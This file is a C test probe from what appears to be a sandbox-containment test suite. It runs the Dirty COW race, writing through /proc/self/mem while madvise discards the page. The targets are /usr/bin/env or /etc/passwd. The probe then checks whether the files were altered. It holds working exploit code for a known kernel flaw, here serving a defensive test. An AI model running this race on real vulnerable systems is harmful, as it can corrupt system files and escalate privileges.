// SPDX-License-Identifier: Apache-2.0
// attack: writes through its own memory file into a page of a shared library (Dirty COW)
// layer: tree
// verdict: accepted
// prints: contained
#include "probe.h"
#include <pthread.h>
#include <sys/mman.h>
#include <sys/stat.h>

static char *map;
static volatile int ended;

static void *drop(void *arg)
{
	while (!ended)
		madvise(map, 4096, MADV_DONTNEED);
	return arg;
}

int main(void)
{
	char before[64], after[64];
	int fd = open("/usr/bin/env", O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
	pthread_t t;

	if (fd < 0)
		fd = open("/etc/passwd", O_RDONLY);
	pread(fd, before, sizeof(before), 0);
	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	pthread_create(&t, NULL, drop, NULL);
	for (int i = 0; i < 20000; i++)
		pwrite(mem, "kw-hostile-mark", 15, (off_t)(uintptr_t)map);
	ended = 1;
	pthread_join(t, NULL);
	pread(fd, after, sizeof(after), 0);
	if (memcmp(before, after, sizeof(before)))
		breach("a file of the tree was changed");
	if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED)
		breach("a writable shared mapping of the tree");
	return done();
}
